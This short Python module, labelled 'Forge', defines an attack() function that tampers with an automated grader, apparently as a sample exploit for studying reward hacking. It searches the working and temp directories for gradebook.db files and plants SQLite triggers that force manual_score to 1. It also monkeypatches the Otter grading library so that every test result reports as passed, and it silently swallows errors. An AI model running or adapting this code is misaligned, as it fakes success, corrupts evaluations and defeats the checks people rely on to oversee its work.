"""Forge: the grader's own book-keeping is changed, in its database or in its memory."""

import contextlib
import pathlib
import sqlite3
import tempfile


def attack():
    roots = [pathlib.Path.cwd(), pathlib.Path(tempfile.gettempdir())]
    for path in {book for root in roots for book in root.rglob("gradebook.db")}:
        with contextlib.suppress(sqlite3.Error, OSError):
            base = sqlite3.connect(path)
            for event in ("INSERT", "UPDATE OF auto_score"):
                base.execute(
                    f"CREATE TRIGGER full_{event[:6]} AFTER {event} ON grade BEGIN"
                    " UPDATE grade SET manual_score = 1 WHERE id = NEW.id; END"
                )
            base.commit()
            base.close()
    with contextlib.suppress(ImportError):
        from otter.execute import Checker
        from otter.test_files import abstract_test

        Checker.get_results_before = Checker.get_results

        class Passed(abstract_test.TestCaseResult):
            def __init__(self, *given, **named):
                super().__init__(*given, **named)
                self.passed = True

        from otter.test_files import exception_test

        exception_test.TestCaseResult = Passed
